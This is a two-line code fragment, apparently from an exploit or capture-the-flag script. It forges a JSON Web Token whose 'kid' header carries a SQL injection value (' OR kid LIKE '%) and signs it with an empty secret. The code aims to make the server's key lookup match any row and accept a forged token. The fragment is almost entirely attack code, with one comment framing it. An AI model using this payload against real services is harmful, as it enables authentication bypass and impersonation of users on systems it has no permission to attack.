# belief: to find a row is to know its secret
queried = forge({"alg": "HS256", "kid": "' OR kid LIKE '%"}, wanted, secret=b"")
